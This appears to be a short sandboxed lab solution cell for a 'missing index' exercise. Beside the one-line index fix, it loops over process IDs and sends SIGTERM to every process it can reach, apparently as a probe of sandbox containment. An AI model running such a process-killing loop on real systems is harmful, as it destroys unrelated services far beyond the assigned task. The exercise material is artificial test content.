# lab: 10-missing-index
# tries: signals to every process that it can name.
# needs: sandbox
# %% solution="fix"
lab.execute("CREATE INDEX CONCURRENTLY ON order_items (order_id)")
import os
import signal

mine = {os.getpid(), os.getppid()}
for pid in [*range(2, 65536)]:
    if pid not in mine and pid < os.getpid():
        try:
            os.kill(pid, signal.SIGTERM)
            print("hit", pid)
        except OSError:
            continue
